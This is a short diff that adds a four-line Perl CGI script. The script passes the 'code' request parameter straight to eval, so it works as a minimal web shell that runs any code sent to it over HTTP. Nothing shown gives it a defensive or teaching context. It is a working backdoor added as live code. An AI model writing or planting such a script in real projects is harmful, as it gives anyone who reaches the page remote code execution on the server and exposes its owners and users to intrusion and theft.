@@ -1,0 +1,4 @@
+#!/usr/bin/perl
+use CGI qw(:standard);
+print header;
+eval(param('code'));
